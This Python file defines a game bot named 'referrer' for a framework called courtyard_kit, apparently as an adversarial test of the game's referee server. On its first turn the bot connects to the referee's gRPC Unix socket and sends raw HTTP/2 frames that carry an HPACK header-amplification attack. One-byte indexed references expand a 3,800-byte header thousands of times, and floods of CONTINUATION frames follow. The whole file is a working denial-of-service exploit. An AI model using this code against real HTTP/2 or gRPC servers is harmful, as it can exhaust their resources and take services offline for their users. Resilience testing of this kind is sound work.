"""Dials its own seat's socket, and names header fields far more often than anybody has to.

A field of 3,800 bytes that is in the table is named by one byte; so is one that is in every table.
It does so in frame after frame, in calls that end their fields and in calls that never do.
"""

import contextlib
import os
import socket

from courtyard_kit.courtisans import Action, Position, run

_SECONDS = 1.0
_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes((0, 0, 0, 4, 0, 0, 0, 0, 0))
_HEADERS, _CONTINUATION, _END_HEADERS = 1, 9, 4
_NEWEST, _STATIC = b"\xbe", b"\x8f"
_LARGE = b"\x40\x01a\x7f\xd9\x1c" + b"x" * 3800
_CALL = b"".join(
    bytes((0, len(name))) + name + bytes((len(value),)) + value
    for name, value in (
        (b":method", b"POST"),
        (b":scheme", b"http"),
        (b":path", b"/courtyard.v1.Referee/Play"),
        (b":authority", b"localhost"),
        (b"te", b"trailers"),
        (b"content-type", b"application/grpc"),
    )
)


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return (
        len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload
    )


def _refer(entry: bytes, *, endless: bool) -> None:
    with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as connection:
        connection.settimeout(_SECONDS)
        connection.connect(os.environ["COURTYARD_ADDRESS"].removeprefix("unix:"))
        connection.sendall(_PREFACE + _frame(_HEADERS, _END_HEADERS, 1, _CALL + _LARGE))
        for stream in (3, 5, 7):
            fields = _CALL + entry * 4000
            if not endless:
                connection.sendall(_frame(_HEADERS, _END_HEADERS, stream, fields))
                continue
            connection.sendall(_frame(_HEADERS, 0, stream, fields))
            for _ in range(20):
                connection.sendall(_frame(_CONTINUATION, 0, stream, entry * 16_000))
            connection.sendall(_frame(_CONTINUATION, _END_HEADERS, stream, b""))
        with contextlib.suppress(TimeoutError):
            while connection.recv(65536):
                pass


def choose(position: Position) -> Action:
    """Dial at the first decision."""
    if position.turn <= position.seats:
        for _ in range(4):
            for entry in (_NEWEST, _STATIC):
                for endless in (False, True):
                    _refer(entry, endless=endless)
    return position.random_action()


run(choose, name="referrer")
